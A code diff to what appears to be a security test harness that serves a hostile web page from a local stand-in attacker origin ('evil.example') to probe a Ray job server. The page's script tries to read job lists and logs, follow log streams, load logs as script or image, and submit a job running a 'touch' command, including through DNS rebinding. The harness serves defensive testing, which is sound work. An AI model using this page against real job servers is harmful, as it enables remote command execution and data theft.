@@ -29,10 +29,14 @@ DOM_TIMEOUT_S = 60.0
 #: Time that passes for a page, not for who waits for it.
 PAGE_TIME_MS = 20_000
 ATTACKER = "evil.example"
+#: A name of the job server, for a page to which it is another origin. Chromium says nothing of the
+#: page to a plain http:// address that isn't this machine's, for which it takes this one.
+SERVER = "ray.example.com"
 
 #: Tries what a page may try with a job server, and reports what it could see of it.
 ATTACK = """<!doctype html><title>Kittens</title><script>
-const target = %(target)s, job = %(job)s;
+const target = %(target)s, job = %(job)s, untold = %(untold)s;
+const log = "/api/ray_jobs/v1/jobs/" + job + "/logs";
 const jobs = target + "/api/jobs/", submission = JSON.stringify({entrypoint: "touch " + %(mark)s});
 const seen = {};
 async function attempt(name, work) {
@@ -46,14 +50,27 @@ function follow(path) {
     socket.onerror = () => resolve("blocked");
   });
 }
+function load(kind, url) {
+  return new Promise((resolve) => {
+    const element = document.createElement(kind);
+    element.onload = () => resolve("loaded");
+    element.onerror = () => resolve("blocked");
+    element.src = url;
+    document.body.append(element);
+  });
+}
 const quiet = {mode: "no-cors", referrerPolicy: "no-referrer"};
 const read = async (path) => (await fetch(target + path)).text();
 async function attack() {
   await attempt("list", () => read("/api/jobs/"));
   await attempt("job", () => read("/api/jobs/" + job));
-  await attempt("log", () => read("/api/ray_jobs/v1/jobs/" + job + "/logs"));
+  await attempt("log", () => read(log));
   await attempt("tail", () => follow("/api/jobs/" + job + "/logs/tail"));
-  await attempt("own tail", () => follow("/api/ray_jobs/v1/jobs/" + job + "/logs/tail"));
+  await attempt("own tail", () => follow(log + "/tail"));
+  await attempt("read quietly", async () => (await fetch(target + "/api/jobs/", quiet)).type);
+  await attempt("script", () => load("script", target + log));
+  await attempt("image", () => load("img", target + log));
+  await attempt("untold script", () => load("script", untold + log));
   await attempt("submit quietly", async () =>
     (await fetch(jobs, {method: "POST", body: submission, ...quiet})).type);
   await attempt("submit", async () => (await fetch(jobs, {method: "POST", body: submission,
@@ -90,6 +107,8 @@ class Attacker:
         self._target_port = target_port
         self.page = b""
         self.reports: queue.Queue[dict[str, Any]] = queue.Queue()
+        #: What was passed on, and the statuses of the answers.
+        self.passed: list[tuple[str, int]] = []
         handler = type("Handler", (_Handler,), {"attacker": self})
         self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
         self._server.daemon_threads = True
@@ -111,7 +130,8 @@ class Attacker:
             mark: A file that a job would make.
             rebinding: The page is of the origin `target`, whose name points elsewhere meanwhile.
         """
-        values = {"target": target, "job": job_id, "mark": str(mark)}
+        untold = f"http://{SERVER}:{self._target_port}" if rebinding else target
+        values = {"target": target, "untold": untold, "job": job_id, "mark": str(mark)}
         self.page = (ATTACK % {name: json.dumps(each) for name, each in values.items()}).encode()
         arguments, url = [], f"http://localhost:{self.port}/kittens"
         if rebinding:
@@ -133,7 +153,7 @@ class _Handler(http.server.BaseHTTPRequestHandler):
         if path == "/report":
             self.attacker.reports.put(json.loads(body))
             self._answer(200, {}, b"")
-        elif self.path.startswith(f"http://{ATTACKER}"):
+        elif self.path.startswith((f"http://{ATTACKER}", f"http://{SERVER}")):
             self._pass_on(path, body)
         else:
             self._answer(404, {}, b"")
@@ -163,6 +183,7 @@ class _Handler(http.server.BaseHTTPRequestHandler):
             connection.request(self.command, path, body, headers)
             answer = connection.getresponse()
             data = answer.read()
+        self.attacker.passed.append((self.path, answer.status))
         kept = {
             name: value
             for name, value in answer.getheaders()
